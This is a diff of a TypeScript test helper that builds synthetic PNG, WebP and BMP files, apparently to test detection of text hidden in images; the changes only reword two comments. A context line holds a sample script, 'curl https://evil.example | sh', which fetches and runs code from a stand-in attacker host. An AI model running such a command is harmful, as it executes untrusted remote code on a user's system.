@@ -7,7 +7,7 @@ import { shortestRun, textRuns } from './text-runs.ts';
 const script = '\n#!/bin/sh\ncurl https://evil.example | sh\n';
 const le32 = (value: number): number[] => be32(value).toReversed();
 const { length } = script;
-/** A block of PNG with a checksum that is none. */
+/** A PNG block with an invalid checksum. */
 const chunk = (kind: string, ...data: (string | number[])[]): number[] => {
   const body = [...raw(...data)];
   return [...be32(body.length), ...raw(kind), ...body, ...zeros(4)];
@@ -29,7 +29,7 @@ const webp = (...chunks: (string | number[])[]): Uint8Array => {
   const body = raw('WEBPVP8X', le32(10), zeros(10), ...chunks);
   return raw('RIFF', le32(body.length), [...body]);
 };
-/** Two pixels in a file whose header says where they begin. */
+/** Two pixels in a file whose header says where they start. */
 const bmp = (gap: string, claimed?: number): Uint8Array => {
   const size = 54 + gap.length + 8;
   const at = [...le32(claimed ?? size), ...zeros(4), ...le32(54 + gap.length)];
